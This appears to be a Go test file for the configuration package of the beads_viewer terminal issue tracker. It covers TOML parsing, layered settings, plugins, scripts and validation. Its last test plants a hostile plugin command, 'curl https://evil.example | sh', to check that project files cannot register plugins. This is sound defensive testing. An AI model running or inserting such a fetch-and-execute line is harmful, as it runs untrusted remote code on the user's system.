@@ -0,0 +1,681 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/Dicklesworthstone/beads_viewer/pkg/analysis"
+	"github.com/Dicklesworthstone/beads_viewer/pkg/model"
+)
+
+func TestParseTOML(t *testing.T) {
+	entries, err := parseTOML(`
+# comment
+top = "value" # trailing
+[theme]
+mode = 'dark'
+[theme.colors]
+primary = "#ff00ff"
+"in_progress" = "#123456"
+[view]
+columns = [
+  "due",   # first
+  "labels",
+]
+[analysis]
+force_full = true
+full_below_nodes = 1_000
+ratio = 0.5
+[templates.bug]
+description = """
+Steps to reproduce:"""
+checklist = ["Test"]
+plugins.lint = { key = "ctrl+l", output = { mode = "status" } }
+`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]any{}
+	for _, e := range entries {
+		got[e.Key] = e.Value
+	}
+	want := map[string]any{
+		"top":                                    "value",
+		"theme.mode":                             "dark",
+		"theme.colors.primary":                   "#ff00ff",
+		"theme.colors.in_progress":               "#123456",
+		"view.columns":                           []any{"due", "labels"},
+		"analysis.force_full":                    true,
+		"analysis.full_below_nodes":              int64(1000),
+		"analysis.ratio":                         0.5,
+		"templates.bug.description":              "Steps to reproduce:",
+		"templates.bug.checklist":                []any{"Test"},
+		"templates.bug.plugins.lint.key":         "ctrl+l",
+		"templates.bug.plugins.lint.output.mode": "status",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %#v\nwant %#v", got, want)
+	}
+
+	for _, bad := range []string{
+		"key = bare",
+		"key = \"open",
+		"[table",
+		"a = 1\na = 2",
+		"[[a]]\nb = 1",
+		"a = [1, 2",
+		"a = 1 b",
+	} {
+		if _, err := parseTOML(bad); err == nil {
+			t.Errorf("expected an error for %q", bad)
+		}
+	}
+	if _, err := parseTOML("a = 1\nb = bare"); err == nil || !strings.Contains(err.Error(), "line 2") {
+		t.Errorf("expected the line of the syntax error, got %v", err)
+	}
+}
+
+func TestLayering(t *testing.T) {
+	dir := t.TempDir()
+	userDir := filepath.Join(dir, "xdg")
+	project := filepath.Join(dir, "project")
+	os.MkdirAll(filepath.Join(userDir, "bv"), 0755)
+	os.MkdirAll(filepath.Join(project, ".bv"), 0755)
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+
+	os.WriteFile(UserPath(), []byte("[view]\ndefault = \"board\"\ncolumns = [\"age\"]\n[keys]\nboard = \"v\"\n"), 0644)
+	os.WriteFile(filepath.Join(project, ".bv", "links.yaml"), []byte("issue_url: \"https://old/{{.ID}}\"\n"), 0644)
+	os.WriteFile(ProjectPath(project), []byte("[view]\ndefault = \"graph\"\n[links]\nissue_url = \"https://new/{{.ID}}\"\n"), 0644)
+	t.Setenv("BV_VIEW_COLUMNS", "due, labels")
+	t.Setenv("BV_THEME_COLORS_IN_PROGRESS", "#abc")
+	t.Setenv("BV_EXPORT_PATH", "/tmp/ignored") // Hook variable, not a setting
+
+	cfg, err := Load(project)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("analysis.force_full", "true"); err != nil {
+		t.Fatal(err)
+	}
+
+	if cfg.View.Default != "graph" || cfg.Source("view.default") != ProjectPath(project) {
+		t.Errorf("project file should override the user file: %q from %s", cfg.View.Default, cfg.Source("view.default"))
+	}
+	if !reflect.DeepEqual(cfg.View.Columns, []string{"due", "labels"}) || cfg.Source("view.columns") != "$BV_VIEW_COLUMNS" {
+		t.Errorf("environment should override files: %v", cfg.View.Columns)
+	}
+	if cfg.Theme.Colors["in_progress"] != "#abc" {
+		t.Errorf("color from environment missing: %v", cfg.Theme.Colors)
+	}
+	if cfg.Links.IssueURL != "https://new/{{.ID}}" {
+		t.Errorf(".beads_viewer.toml should override links.yaml: %q", cfg.Links.IssueURL)
+	}
+	if !cfg.Analysis.ForceFull || cfg.Source("analysis.force_full") != "--set" {
+		t.Errorf("--set should apply last")
+	}
+	if cfg.Source("theme.mode") != "default" {
+		t.Errorf("unset key should report default, got %s", cfg.Source("theme.mode"))
+	}
+	if got := cfg.KeyTranslation(); !reflect.DeepEqual(got, map[string]string{"v": "b"}) {
+		t.Errorf("unexpected key translation %v", got)
+	}
+
+	var sb strings.Builder
+	if err := cfg.Write(&sb); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := parseTOML(sb.String()); err != nil {
+		t.Errorf("config show output should parse as TOML: %v\n%s", err, sb.String())
+	}
+	if !strings.Contains(sb.String(), "# $BV_VIEW_COLUMNS") {
+		t.Errorf("expected sources in output:\n%s", sb.String())
+	}
+}
+
+func TestInvalidSettings(t *testing.T) {
+	cfg := Default()
+	for key, value := range map[string]string{
+		"theme.mode":                "sepia",
+		"theme.colors.primary":      "purple",
+		"theme.colors.nope":         "#fff",
+		"keys.launch":               "x",
+		"view.default":              "gantt",
+		"view.columns":              "due,size",
+		"view.density":              "roomy",
+		"view.card_lines":           "4",
+		"view.ambiguous_width":      "double",
+		"view.image_preview":        "ascii",
+		"time.style":                "fuzzy",
+		"time.date_format":          "tomorrow",
+		"time.clock":                "36h",
+		"time.zone":                 "Mars/Olympus_Mons",
+		"watch.mode":                "inotify",
+		"watch.poll_interval":       "10ms",
+		"watch.hash":                "sometimes",
+		"analysis.force_full":       "maybe",
+		"analysis.full_below_nodes": "-1",
+		"templates.bug.type":        "defect",
+		"templates.bug.priority":    "5",
+		"templates.bug.fields":      "title,size",
+		"templates.bug.color":       "red",
+		"nope.key":                  "1",
+	} {
+		if err := cfg.Set(key, value); err == nil {
+			t.Errorf("expected an error for %s=%s", key, value)
+		}
+	}
+
+	dir := t.TempDir()
+	path := filepath.Join(dir, "bad.toml")
+	os.WriteFile(path, []byte("[view]\ndefault = 3\n"), 0644)
+	if err := cfg.LoadFile(path); err == nil || !strings.Contains(err.Error(), "bad.toml: view.default") {
+		t.Errorf("expected an error with file and key, got %v", err)
+	}
+	if _, err := parseTOML(Template); err != nil {
+		t.Errorf("template should parse: %v", err)
+	}
+}
+
+func TestTemplates(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte(`
+[templates.bug]
+title = "Bug: "
+type = "bug"
+priority = 1
+labels = ["triage"]
+description = "Steps to reproduce:\n"
+checklist = [
+  "Regression test",
+  "Changelog entry",
+]
+fields = ["priority", "labels"]
+
+[templates.spike]
+type = "task"
+`), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	if got := cfg.TemplateNames(); !reflect.DeepEqual(got, []string{"bug", "spike"}) {
+		t.Errorf("unexpected templates %v", got)
+	}
+	want := &TemplateConfig{Title: "Bug: ", Type: "bug", Priority: 1, Labels: []string{"triage"},
+		Description: "Steps to reproduce:\n", Checklist: []string{"Regression test", "Changelog entry"},
+		Fields: []string{"priority", "labels"}}
+	if !reflect.DeepEqual(cfg.Templates["bug"], want) {
+		t.Errorf("expected %+v, got %+v", want, cfg.Templates["bug"])
+	}
+	if spike := cfg.Templates["spike"]; spike.Priority != 2 || spike.Fields != nil {
+		t.Errorf("expected the default priority and all fields, got %+v", spike)
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil {
+		t.Fatalf("config show output should load: %v\n%s", err, sb.String())
+	}
+	if !reflect.DeepEqual(again.Templates, cfg.Templates) {
+		t.Errorf("templates did not round-trip: %+v", again.Templates)
+	}
+
+	if err := cfg.Set("templates.spike.labels", "research, timeboxed"); err != nil {
+		t.Fatal(err)
+	}
+	if got := cfg.Templates["spike"].Labels; !reflect.DeepEqual(got, []string{"research", "timeboxed"}) {
+		t.Errorf("expected labels from --set, got %v", got)
+	}
+}
+
+func TestPlugins(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte(`
+[plugins.timer]
+key = "ctrl+t"
+command = "timer start"
+
+[plugins.notes]
+key = "alt+n"
+command = "cat"
+output = "pager"
+timeout = "5s"
+`), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	if got := cfg.PluginNames(); !reflect.DeepEqual(got, []string{"notes", "timer"}) {
+		t.Errorf("unexpected plugins %v", got)
+	}
+	timer := cfg.Plugins["timer"]
+	if timer.Output != "toast" || timer.Timeout != DefaultPluginTimeout {
+		t.Errorf("expected defaults, got %+v", timer)
+	}
+	if cfg.Plugins["notes"].Timeout.Seconds() != 5 {
+		t.Errorf("timeout not applied: %+v", cfg.Plugins["notes"])
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil {
+		t.Fatalf("config show output should load: %v\n%s", err, sb.String())
+	}
+	if !reflect.DeepEqual(again.Plugins, cfg.Plugins) {
+		t.Errorf("plugins did not round-trip: %+v", again.Plugins)
+	}
+
+	cfg.Set("plugins.notes.key", "ctrl+t")
+	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "both bound") {
+		t.Errorf("expected a key conflict, got %v", err)
+	}
+	// Built-in shortcuts, rebound ones included, can't be taken
+	for _, key := range []string{"j", "enter", "ctrl+k", "alt+a", "ctrl+g"} {
+		cfg = Default()
+		cfg.Set("keys.board", "ctrl+g")
+		cfg.Set("plugins.notes.command", "cat")
+		cfg.Set("plugins.notes.key", key)
+		if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "built-in key") {
+			t.Errorf("%s: expected a built-in key conflict, got %v", key, err)
+		}
+	}
+	cfg = Default()
+	cfg.Set("plugins.half.key", "x")
+	if err := cfg.Validate(); err == nil {
+		t.Errorf("expected an error for a plugin without a command")
+	}
+	for key, value := range map[string]string{
+		"plugins.x.output":  "popup",
+		"plugins.x.timeout": "soon",
+		"plugins.x.args":    "1",
+		"plugins.key":       "x",
+	} {
+		if err := cfg.Set(key, value); err == nil {
+			t.Errorf("expected an error for %s=%s", key, value)
+		}
+	}
+}
+
+func TestScripts(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte(`
+[scripts]
+impact = "0.7 * pagerank_norm + 0.3 * (4 - priority) / 4"
+
+[scripts.columns]
+hours = "estimate / 60 if estimate else None"
+risk = "blockers * 2 + dependents"
+`), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("scripts.columns.hours", "round(estimate / 60) if estimate else None"); err != nil {
+		t.Fatal(err)
+	}
+	want := []ScriptColumn{
+		{Name: "hours", Expr: "round(estimate / 60) if estimate else None"},
+		{Name: "risk", Expr: "blockers * 2 + dependents"},
+	}
+	if !reflect.DeepEqual(cfg.Scripts.Columns, want) {
+		t.Errorf("columns should keep file order when overridden: %+v", cfg.Scripts.Columns)
+	}
+
+	e := cfg.ScriptEngine()
+	if e == nil || e.Impact == nil || e.Sort != nil || len(e.Columns) != 2 || e.Columns[1].Name != "risk" {
+		t.Errorf("unexpected engine %+v", e)
+	}
+	if Default().ScriptEngine() != nil {
+		t.Errorf("expected no engine without scripts")
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil || !reflect.DeepEqual(again.Scripts, cfg.Scripts) {
+		t.Errorf("scripts did not round-trip (%v):\n%s", err, sb.String())
+	}
+
+	if err := cfg.Set("scripts.sort", "page_rank"); err == nil || !strings.Contains(err.Error(), "did you mean pagerank") {
+		t.Errorf("expected a compile error with a suggestion, got %v", err)
+	}
+	t.Setenv("BV_SCRIPTS_SORT", "due_days")
+	env := Default()
+	if err := env.LoadEnv(os.Environ()); err != nil || env.Scripts.Sort != "due_days" {
+		t.Errorf("expected BV_SCRIPTS_SORT to apply: %v", err)
+	}
+}
+
+func TestImpactWeights(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte("[impact]\npagerank = 1\ndue_date = 0.5\n"), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("impact.blast_radius", "0"); err != nil {
+		t.Fatal(err)
+	}
+	want := analysis.DefaultImpactWeights()
+	want.PageRank, want.DueDate, want.BlockerRatio = 1, 0.5, 0
+	if cfg.Impact != want {
+		t.Errorf("got %+v, want %+v", cfg.Impact, want)
+	}
+	if cfg.Source("impact.due_date") != path {
+		t.Errorf("expected the source to be recorded, got %q", cfg.Source("impact.due_date"))
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil || again.Impact != cfg.Impact {
+		t.Errorf("weights did not round-trip (%v):\n%s", err, sb.String())
+	}
+
+	if err := cfg.Set("impact.staleness", "-1"); err == nil {
+		t.Error("expected negative weights to be rejected")
+	}
+	if err := cfg.Set("impact.priority", "lots"); err == nil {
+		t.Error("expected a number")
+	}
+	t.Setenv("BV_IMPACT_DUE_DATE", "2")
+	env := Default()
+	if err := env.LoadEnv(os.Environ()); err != nil || env.Impact.DueDate != 2 {
+		t.Errorf("expected BV_IMPACT_DUE_DATE to apply: %v", err)
+	}
+
+	zero := Default()
+	zero.Impact = analysis.ImpactWeights{}
+	if err := zero.Validate(); err == nil {
+		t.Error("expected all-zero weights to fail validation")
+	}
+}
+
+func TestWIPLimits(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte("[wip]\nin_progress = 5\nper_assignee = 2\n\n[wip.assignees]\nalice = 4\n\"j.doe\" = 1\n"), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("wip.blocked", "3"); err != nil {
+		t.Fatal(err)
+	}
+	w := cfg.WIP
+	if w.StatusLimit(model.StatusInProgress) != 5 || w.StatusLimit(model.StatusBlocked) != 3 || w.StatusLimit(model.StatusOpen) != 0 {
+		t.Errorf("unexpected status limits %+v", w.Status)
+	}
+	if w.AssigneeLimit("alice") != 4 || w.AssigneeLimit("j.doe") != 1 || w.AssigneeLimit("bob") != 2 {
+		t.Errorf("unexpected assignee limits %+v", w)
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil || !reflect.DeepEqual(again.WIP, cfg.WIP) {
+		t.Errorf("limits did not round-trip (%v):\n%s", err, sb.String())
+	}
+
+	for key, value := range map[string]string{"wip.closed": "1", "wip.in_progress": "-1", "wip.per_assignee": "many"} {
+		if err := cfg.Set(key, value); err == nil {
+			t.Errorf("expected an error for %s=%s", key, value)
+		}
+	}
+	t.Setenv("BV_WIP_IN_PROGRESS", "7")
+	env := Default()
+	if err := env.LoadEnv(os.Environ()); err != nil || env.WIP.StatusLimit(model.StatusInProgress) != 7 {
+		t.Errorf("expected BV_WIP_IN_PROGRESS to apply: %v", err)
+	}
+}
+
+func TestDependencyTypes(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte("[dependency_types]\nsupersedes = \"blocking\"\nduplicates = \"non-blocking\"\n"), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	want := map[model.DependencyType]bool{"supersedes": true, "duplicates": false}
+	if !reflect.DeepEqual(cfg.DependencyTypes, want) {
+		t.Errorf("expected %v, got %v", want, cfg.DependencyTypes)
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil || !reflect.DeepEqual(again.DependencyTypes, want) {
+		t.Errorf("dependency types did not round-trip (%v):\n%s", err, sb.String())
+	}
+
+	for key, value := range map[string]string{
+		"dependency_types.blocks":     "non-blocking",
+		"dependency_types.supersedes": "sometimes",
+	} {
+		if err := cfg.Set(key, value); err == nil {
+			t.Errorf("expected an error for %s=%s", key, value)
+		}
+	}
+}
+
+func TestViewDensity(t *testing.T) {
+	cfg := Default()
+	if cfg.View.Density != "comfortable" || cfg.View.CardLines != 1 || cfg.View.AmbiguousWidth != "auto" ||
+		cfg.View.ImagePreview != "auto" {
+		t.Fatalf("unexpected defaults %+v", cfg.View)
+	}
+	if err := cfg.Set("view.density", "spacious"); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("view.card_lines", "3"); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("view.ambiguous_width", "wide"); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("view.image_preview", "sixel"); err != nil {
+		t.Fatal(err)
+	}
+
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	var sb strings.Builder
+	cfg.Write(&sb)
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	again := Default()
+	if err := again.LoadFile(path); err != nil || again.View.Density != "spacious" || again.View.CardLines != 3 ||
+		again.View.AmbiguousWidth != "wide" || again.View.ImagePreview != "sixel" {
+		t.Errorf("view did not round-trip (%v): %+v", err, again.View)
+	}
+}
+
+func TestTime(t *testing.T) {
+	cfg := Default()
+	if cfg.Time.Style != "relative" || cfg.Time.Date != "iso" || cfg.Time.Zone != "local" {
+		t.Fatalf("unexpected defaults %+v", cfg.Time)
+	}
+	for key, value := range map[string]string{
+		"time.style":       "absolute",
+		"time.date_format": "02 Jan 2006",
+		"time.clock":       "12h",
+		"time.zone":        "Europe/Berlin",
+	} {
+		if err := cfg.Set(key, value); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	path := filepath.Join(t.TempDir(), "config.toml")
+	var sb strings.Builder
+	cfg.Write(&sb)
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	again := Default()
+	if err := again.LoadFile(path); err != nil || again.Time != cfg.Time {
+		t.Errorf("time did not round-trip (%v): %+v", err, again.Time)
+	}
+}
+
+func TestWatch(t *testing.T) {
+	cfg := Default()
+	if cfg.Watch.Mode != "auto" || cfg.Watch.PollInterval != 2*time.Second || cfg.Watch.Hash {
+		t.Fatalf("unexpected defaults %+v", cfg.Watch)
+	}
+	t.Setenv("BV_WATCH_MODE", "poll")
+	t.Setenv("BV_WATCH_POLL_INTERVAL", "5s")
+	t.Setenv("BV_WATCH_HASH", "true")
+	if err := cfg.LoadEnv(os.Environ()); err != nil {
+		t.Fatal(err)
+	}
+	want := WatchConfig{Mode: "poll", PollInterval: 5 * time.Second, Hash: true}
+	if cfg.Watch != want {
+		t.Fatalf("expected %+v, got %+v", want, cfg.Watch)
+	}
+
+	path := filepath.Join(t.TempDir(), "config.toml")
+	var sb strings.Builder
+	cfg.Write(&sb)
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	again := Default()
+	if err := again.LoadFile(path); err != nil || again.Watch != want {
+		t.Errorf("watch did not round-trip (%v): %+v", err, again.Watch)
+	}
+}
+
+func TestFields(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.toml")
+	os.WriteFile(path, []byte("[fields]\ncolumns = [\"customer\", \"story_points\"]\n"), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Set("fields.details", "customer, links"); err != nil {
+		t.Fatal(err)
+	}
+	want := FieldsConfig{Columns: []string{"customer", "story_points"}, Details: []string{"customer", "links"}}
+	if !reflect.DeepEqual(cfg.Fields, want) {
+		t.Fatalf("expected %+v, got %+v", want, cfg.Fields)
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	again := Default()
+	if err := again.LoadFile(path); err != nil || !reflect.DeepEqual(again.Fields, want) {
+		t.Errorf("fields did not round-trip (%v): %+v", err, again.Fields)
+	}
+}
+
+func TestUser(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte("[user]\nname = \"@alice\"\n\n[user.git_names]\n\"Alice Liddell\" = \"alice\"\n"), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	want := UserConfig{Name: "alice", GitNames: map[string]string{"Alice Liddell": "alice"}}
+	if !reflect.DeepEqual(cfg.User, want) {
+		t.Errorf("expected %+v, got %+v", want, cfg.User)
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil || !reflect.DeepEqual(again.User, want) {
+		t.Errorf("user did not round-trip (%v):\n%s", err, sb.String())
+	}
+
+	if err := cfg.Set("user.git_names.Bob", ""); err == nil {
+		t.Error("expected an error for an empty git name mapping")
+	}
+	t.Setenv("BV_USER_NAME", "bob")
+	env := Default()
+	if err := env.LoadEnv(os.Environ()); err != nil || env.User.Name != "bob" {
+		t.Errorf("expected BV_USER_NAME to apply: %v", err)
+	}
+}
+
+func TestTeams(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.toml")
+	os.WriteFile(path, []byte("[teams]\nweb = [\"alice\", \"@bob\"]\n\"data eng\" = [\"carol\"]\n"), 0644)
+	cfg := Default()
+	if err := cfg.LoadFile(path); err != nil {
+		t.Fatal(err)
+	}
+	want := analysis.Teams{"web": {"alice", "bob"}, "data eng": {"carol"}}
+	if !reflect.DeepEqual(cfg.Teams, want) {
+		t.Errorf("expected %+v, got %+v", want, cfg.Teams)
+	}
+
+	var sb strings.Builder
+	cfg.Write(&sb)
+	again := Default()
+	os.WriteFile(path, []byte(sb.String()), 0644)
+	if err := again.LoadFile(path); err != nil || !reflect.DeepEqual(again.Teams, want) {
+		t.Errorf("teams did not round-trip (%v):\n%s", err, sb.String())
+	}
+
+	if err := cfg.Set("teams.ops", "dave, bob"); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "both include bob") {
+		t.Errorf("expected an error for bob in two teams, got %v", err)
+	}
+	t.Setenv("BV_TEAMS_OPS", "dave,erin")
+	env := Default()
+	if err := env.LoadEnv(os.Environ()); err != nil || !reflect.DeepEqual(env.Teams["ops"], []string{"dave", "erin"}) {
+		t.Errorf("expected BV_TEAMS_OPS to apply: %v %+v", err, env.Teams)
+	}
+}
+
+func TestProjectFileCannotRegisterPlugins(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	project := t.TempDir()
+	os.WriteFile(ProjectPath(project), []byte(`
+[view]
+default = "board"
+
+[plugins.pwn]
+key = "ctrl+t"
+command = "curl https://evil.example | sh"
+`), 0644)
+	cfg, err := Load(project)
+	if err == nil || !strings.Contains(err.Error(), "plugins can't be set in a project file") {
+		t.Fatalf("expected the project plugin refused, got %v", err)
+	}
+	if cfg != nil {
+		t.Errorf("expected no config, got plugins %v", cfg.Plugins)
+	}
+
+	// The same table in the user's config is fine
+	user := UserPath()
+	os.MkdirAll(filepath.Dir(user), 0755)
+	os.WriteFile(user, []byte("[plugins.timer]\nkey = \"ctrl+t\"\ncommand = \"timer start\"\n"), 0644)
+	os.WriteFile(ProjectPath(project), []byte("[view]\ndefault = \"board\"\n"), 0644)
+	cfg, err = Load(project)
+	if err != nil || cfg.Plugins["timer"] == nil {
+		t.Fatalf("expected the user plugin loaded, got %v", err)
+	}
+}